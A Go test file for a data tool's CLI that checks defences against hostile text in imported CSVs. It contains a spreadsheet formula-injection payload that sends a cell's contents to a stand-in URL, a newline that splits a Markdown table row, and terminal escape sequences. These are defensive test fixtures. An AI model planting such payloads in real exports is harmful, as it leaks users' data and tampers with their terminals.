package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Text from files cannot act on a spreadsheet, a terminal or a Markdown report:
// formula-like names are protected in every CSV, control characters are shown as
// escapes on a terminal and in Markdown (a newline cannot split a table row), and
// codes with control characters are refused at import.
func TestHostileText(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	db := filepath.Join(dir, "h.duckdb")
	in := filepath.Join(dir, "h.csv")
	os.WriteFile(in, []byte("unit,name,year,indicator,value\n"+
		"U1,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",2022,x,1\n"+
		"U2,\"two\nlines | U9 | fake\",2022,x,2\n"+
		"U3,\"Bell\x07 and \x1b]0;title\x07\",2022,x,3\n"), 0o644)
	fw := filepath.Join(dir, "h.yaml")
	os.WriteFile(fw, []byte("id: h\nroot: n\nnodes:\n  - {id: n, children: [x]}\nindicators:\n  - {id: x, normalise: minmax}\n"), 0o644)
	mustRun(t, db, "import", "indicators", in, "--dataset", "h")
	mustRun(t, db, "compute", "--method", fw, "--dataset", "h")
	for _, args := range [][]string{
		{"export", "--dataset", "h", "--out", filepath.Join(dir, "long.csv")},
		{"export", "--dataset", "h", "--layout", "wide", "--out", filepath.Join(dir, "wide.csv")},
		{"report", "ranking", "--dataset", "h", "--out", filepath.Join(dir, "r.csv")},
	} {
		mustRun(t, db, args...)
		b, _ := os.ReadFile(args[len(args)-1])
		if !strings.Contains(string(b), `"'=HYPERLINK(`) || strings.Contains(string(b), `,"=HYPERLINK`) {
			t.Errorf("egdi %s writes the formula raw:\n%s", strings.Join(args, " "), b)
		}
	}
	if out := mustRun(t, db, "rank", "--dataset", "h", "--format", "csv"); !strings.Contains(out, `"'=HYPERLINK(`) {
		t.Errorf("rank --format csv writes the formula raw:\n%s", out)
	}
	text := mustRun(t, db, "rank", "--dataset", "h")
	if strings.ContainsAny(text, "\x07\x1b") || !strings.Contains(text, `Bell\x07 and \x1b]0;title\x07`) || !strings.Contains(text, `two\x0alines`) {
		t.Errorf("the terminal table passes control characters:\n%q", text)
	}
	md := filepath.Join(dir, "r.md")
	mustRun(t, db, "report", "ranking", "--dataset", "h", "--out", md)
	b, _ := os.ReadFile(md)
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(strings.TrimSpace(l), "| U9") || strings.HasPrefix(l, "lines") {
			t.Errorf("a newline in a name split a Markdown row: %q", l)
		}
	}
	if strings.ContainsAny(string(b), "\x07\x1b") {
		t.Error("the Markdown report holds control characters")
	}
	// codes with control characters are refused, naming the file
	for name, body := range map[string]string{
		"unit.csv":   "unit,year,indicator,value\n\"A\x1b[2J\",2022,x,1\n",
		"ind.csv":    "unit,year,indicator,value\nA,2022,\"x\x07\",1\n",
		"groups.csv": "unit,grouping,group\n\"B\x1b\",g,one\n",
	} {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(body), 0o644)
		cmd := "indicators"
		if name == "groups.csv" {
			cmd = "groups"
		}
		_, err := run(t, db, "import", cmd, p, "--dataset", "bad")
		if cmd == "groups" {
			_, err = run(t, db, "import", cmd, p)
		}
		if err == nil || !strings.Contains(err.Error(), "control character") || !strings.Contains(err.Error(), name) {
			t.Errorf("%s: %v", name, err)
		}
	}
}
